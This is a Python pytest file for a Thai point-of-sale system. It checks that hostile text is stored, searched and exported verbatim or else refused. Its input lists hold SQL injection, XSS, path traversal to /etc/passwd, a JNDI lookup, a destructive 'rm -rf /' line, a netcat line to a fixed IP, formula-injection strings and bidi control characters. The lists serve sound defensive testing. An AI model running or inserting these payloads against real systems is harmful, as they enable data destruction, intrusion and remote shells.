"""Hostile text is only text: it is refused at the door, or kept and found again letter by letter."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from otop_pos.domain.errors import NotFound, TextTooLong, UnknownCode, Unwritable
from otop_pos.domain.payment import Given
from otop_pos.domain.product import Product
from otop_pos.domain.receiving import Delivery, DeliveryLine
from otop_pos.domain.refund import Refund, RefundLine
from otop_pos.services.nightly import send_day
from otop_pos.services.producer import find_producers
from otop_pos.services.product import add_product, find_products
from otop_pos.services.receiving import post_delivery, read_grn
from otop_pos.services.refund import refund_sale
from otop_pos.services.sale import find_offers, read_sale, search_offers
from otop_pos.services.stock import list_lots
from tests.books import broken, contents, count
from tests.factories import NOW, TODAY, SmallShop

ONLY_TEXT = (
    "Robert'); DROP TABLE sale;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "x' UNION SELECT name FROM sqlite_master--",
    "$$; DROP TABLE product; $$",
    "%s %(name)s {0} {name} %d %n",
    ":name ?1 ? $1",
    "100% ฝ้าย_แท้",
    "\\x41 \\u0041 \\n",
    "C:\\shop\\*.*",
    "../../../../etc/passwd",
    "</para><b>x",
    "<img src=x onerror=alert(1)>",
    "<script>alert('ผ้า')</script>",
    "&lt;b&gt; &amp; &#x41;",
    "]]><!--",
    "${jndi:ldap://x}",
    "{{7*7}} {% raw %}",
    "`rm -rf /`; $(reboot)",
    "| nc 10.0.0.1 4444",
    'คำว่า "ผ้า", และ; ผ้า',
    "a,b;c\u00a6d|e",
    "NULL",
    "None",
    "nan",
    "true",
    "0x1F",
    "1e400",
    "007",
    "๐๐๗",
    "ผ้า😀ไหม",
    "👨‍👩‍👧",
    "ศรัทธา ฤๅษี เก๋ไก๋ ก็ ปั้น น้ำ",
    "ﷺ Ω ß ı İ ǅ",
    "漢字 ひらがな 한국어 العربية עברית",
    "e\u0301 cafe\u0301",
    "ก" * 300,
    "A" * 300,
)
REFUSED = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝cmd",
    "－1",
    "\x00",
    "ผ้า\x00ไหม",
    "ผ้า\nไหม",
    "ผ้า\r\nไหม",
    "ผ้า\tไหม",
    "\x1b@\x1bp\x00\x19\xfa",
    "\x1d\x56\x00",
    "\x07\x08",
    "\x7f",
    "ผ้า\x85ไหม",
    "\u202eผ้า\u202c",
    "\u2066ผ้า\u2069",
    "\u200eผ้า",
    "ผ้า\u2028ไหม",
    "ผ้า\u2029ไหม",
    "\ue000",
    "\ud800",
    "ผ้า\udcffไหม",
    "\U0010ffff",
    "\ufffe",
    "ะก",
    "\u0e48",
    "ิผ้า",
    "\u0301e",
)
TOO_LONG = ("ก" * 301, "A" * 10_000)


def named(shop: SmallShop, text: str, sku: str = "P000042") -> Product:
    return Product(sku, text, text, price=100, codes=(), standard=text, producer_id=shop.weaver.id)


def test_what_is_only_text_is_kept_sold_found_and_sent_letter_by_letter(shop: SmallShop, tmp_path: Path) -> None:
    for number, text in enumerate(ONLY_TEXT):
        product = shop.database.run(add_product, named(shop, text, f"H{number:03d}"))
        shop.receive(product, 1_000)
        sale = shop.sell((product.sku, 1_000), given=(Given("transfer", 100, text),))
        assert sale.lines[0].name_th == product.name_th
        assert sale.payments[0].reference == product.name_th
        assert shop.database.run(read_sale, sale.doc_no) == sale
        found = shop.database.run(search_offers, text, on=TODAY, limit=99)
        assert product.sku in [offer.product.sku for offer in found], text
        assert product.sku in [lot.product.sku for lot in shop.database.run(list_lots, text)], text
    assert count(shop.database, "sale") == len(ONLY_TEXT)
    assert broken(shop.database) == []
    shop.close()
    folder = send_day(shop.database, tmp_path).folder
    sent = (folder / "products.csv").read_text(encoding="utf-8")
    assert all(text in sent for text in ("DROP TABLE sale", "</para><b>x", "ผ้า😀ไหม", "ก" * 300))


@pytest.mark.parametrize("text", REFUSED + TOO_LONG, ids=lambda text: ascii(text)[:30])
def test_what_no_paper_can_hold_is_refused_at_every_door(sqlite_shop: SmallShop, text: str) -> None:
    shop = sqlite_shop
    sale = shop.sell(("P000001", 2_000))
    line = DeliveryLine(shop.cloth.id, 2_000, 1_000, 107_000, reject_reason=text)
    batch = DeliveryLine(shop.cloth.id, 1_000, 1_000, 107_000, batch=text)
    basket = shop.basket(("P000001", 1_000))
    doors: list[Callable[[], Any]] = [
        lambda: shop.database.run(add_product, named(shop, text)),
        lambda: shop.database.run(post_delivery, Delivery(shop.weaver.id, (line,)), user=shop.manager, at=NOW),
        lambda: shop.database.run(post_delivery, Delivery(shop.weaver.id, (batch,)), user=shop.manager, at=NOW),
        lambda: shop.sell(basket=basket, given=(Given("transfer", 107_000, text),)),
        lambda: shop.database.run(
            refund_sale, Refund(sale.doc_no, (RefundLine(1, 1_000),), text), till="CM01", user=shop.user, at=NOW
        ),
    ]
    before = contents(shop.database)
    for door in doors:
        with pytest.raises(TextTooLong if text in TOO_LONG else Unwritable) as refusal:
            door()
        assert refusal.value.sentence.isprintable()
        assert len(refusal.value.sentence) < 200
    assert contents(shop.database) == before


def everything_found(shop: SmallShop, text: str) -> list[object]:
    found = [shop.database.run(use_case, text) for use_case in (find_products, find_producers, list_lots)]
    return [*found, shop.database.run(search_offers, text, on=TODAY)]


def test_any_text_may_be_searched_for(shop: SmallShop) -> None:
    """A scanner sends what it likes: none of it is a bug, and only what can be seen of it counts."""
    for text in (*REFUSED, *TOO_LONG, *ONLY_TEXT):
        seen = "".join(each if each.isprintable() else " " for each in text)
        assert everything_found(shop, text) == everything_found(shop, seen), ascii(text)
        for refusal, ask in (
            (UnknownCode, lambda text=text: shop.database.run(find_offers, text, on=TODAY)),
            (NotFound, lambda text=text: shop.database.run(read_sale, text)),
            (NotFound, lambda text=text: shop.database.run(read_grn, text)),
        ):
            with pytest.raises(refusal) as answer:
                ask()
            assert answer.value.sentence.isprintable(), ascii(text)


@pytest.mark.parametrize("typed", ["น\u0e4d\u0e32ผ\u0e36\u0e49ง", " น้ำ\u200bผึ้ง ", "น้ำผึ้ง\u00a0รวง", "น้ำผึ้ง  รวง"])
def test_what_looks_the_same_finds_the_same(shop: SmallShop, typed: str) -> None:
    typed = typed.replace("น\u0e4d\u0e32", "น้\u0e4d\u0e32")
    shop.database.run(add_product, named(shop, "น้ำผึ้ง รวง"))
    assert [offer.product.sku for offer in shop.database.run(search_offers, typed, on=TODAY)][-1] == "P000042"


@pytest.mark.parametrize("scanned", ["P000001", " P000001\r\n", "P000001\x00", "\ufeffP000001"])
def test_what_a_scanner_adds_to_a_code_does_not_hide_the_goods(shop: SmallShop, scanned: str) -> None:
    (offer,) = shop.database.run(find_offers, scanned, on=TODAY)
    assert offer.product == shop.cloth
